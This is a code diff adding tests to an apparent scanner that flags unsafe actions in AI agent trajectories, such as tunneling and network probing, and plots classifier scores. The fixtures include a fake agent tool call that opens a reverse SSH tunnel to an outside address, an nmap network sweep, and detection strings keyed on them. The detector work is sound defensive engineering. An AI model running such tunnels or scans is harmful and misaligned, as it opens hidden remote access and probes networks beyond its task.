@@ -148,3 +148,78 @@ def test_report_in_headless_chromium(hostile, sample, tmp_path):
         assert "Uncaught" not in proc.stderr and "Refused to" not in proc.stderr, proc.stderr[-2000:]
         assert '<mark class="ev' in dom
     assert 'data-count="unsafe">' in dom
+
+
+class _FakeClassifier:
+    labels = ("tunneling", "cryptomining", "network_probing", "resource_acquisition")
+    cache_size = 10
+
+    def __init__(self) -> None:
+        self.calls = 0
+
+    def predict(self, texts, *, batch_size, max_length):
+        import numpy as np
+
+        self.calls += 1
+        return np.array([[0.97 if "ssh -R" in t else 0.01, 0.0, 0.42 if "nmap" in t else 0.03, 0.0] for t in texts])
+
+
+class _FakeDetector:
+    name, gate, batch_size, max_length = "classifier", "undecided", 8, 32
+
+    def __init__(self) -> None:
+        self.classifier = _FakeClassifier()
+
+    def _inputs(self, item):
+        return [(None, text) for text in item]
+
+    def detect_batch(self, items, *, skip=None):
+        return [["found"] if j not in (skip or ()) else [] for j, _ in enumerate(items)]
+
+
+def test_histogram_counts_every_scored_trajectory_by_its_top_score_and_merges():
+    from safefilter.scanner import Scanner
+    from safefilter.scorehist import BINS, merge_histograms, score_histogram
+
+    scanner = Scanner([_FakeDetector()], None)
+    hist = score_histogram(scanner)
+    assert score_histogram(scanner) is hist and scanner.detectors[0].gate == "undecided"  # wrapped once, same API
+    items = [["ls", "ssh -R 9:h:22 u@h"], ["nmap -sn 10.0.0.0/24", "ls"], [], ["ssh -R 1:h:22 x@y"]]
+    assert scanner.detectors[0].detect_batch(items, skip={3}) == [["found"], ["found"], ["found"], []]  # findings unchanged
+    part = hist.take()
+    assert part["scored"] == 2  # no actions, and skipped by the gate: not scored
+    assert part["categories"]["tunneling"][int(0.97 * BINS)] == 1 and part["categories"]["tunneling"][0] == 1
+    assert part["categories"]["network_probing"][int(0.42 * BINS)] == 1
+    assert all(sum(v) == 2 for v in part["categories"].values())
+    assert hist.take()["scored"] == 0  # taken: the next unit starts from zero
+    total = merge_histograms([part, None, part, {"bins": 7}])
+    assert total["scored"] == 4 and total["categories"]["tunneling"][int(0.97 * BINS)] == 2
+    assert merge_histograms([None, {}]) is None
+    assert score_histogram(Scanner([], None)) is None
+
+
+def test_report_plots_scores_of_clean_trajectories_when_the_classifier_ran(tmp_path, monkeypatch):
+    """With the shipped classifier on, every unit records a histogram of all scanned trajectories
+    (clean ones too) in the manifest, and the report draws it; a rules-only run says there are none."""
+    from safefilter.config import load_config
+    from safefilter.run import run
+
+    monkeypatch.chdir(ROOT)
+    records = [{"id": f"c{i}", "messages": [{"role": "user", "content": "Fix the test"},
+                                              _call("c1", f"pytest -q tests/test_{i}.py")]} for i in range(3)]
+    records.append({"id": "u1", "messages": [{"role": "user", "content": "Fix the test"},
+                                             _call("c1", "ssh -N -R 2222:localhost:22 ops@203.0.113.7")]})
+    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
+    config, applied = load_config(ROOT / "configs" / "default.yaml", [
+        f"input={tmp_path / 'in.jsonl'}", f"output={tmp_path / 'run'}", "progress=false", "report.enabled=false",
+        "classifier.gate=all"])
+    run(config, overrides=applied)
+    manifest = json.loads((tmp_path / "run" / "manifest.json").read_text())
+    hist = manifest["shards"][0]["classifier_scores"]
+    assert manifest["counts"]["clean"] == 3 and hist["scored"] == 4
+    assert all(sum(v) == 4 for v in hist["categories"].values())
+    html = render_report(tmp_path / "run")
+    assert "over 4 scored of 4 scanned trajectories" in html
+    assert re.search(r'<h2>Classifier scores</h2><p class=note id="scores-note">[^<]*</p><img ', html)
+    rules_only = render_report(sample_run(tmp_path / "rules", f"input={tmp_path / 'in.jsonl'}"))
+    assert "No classifier ran in this run" in rules_only
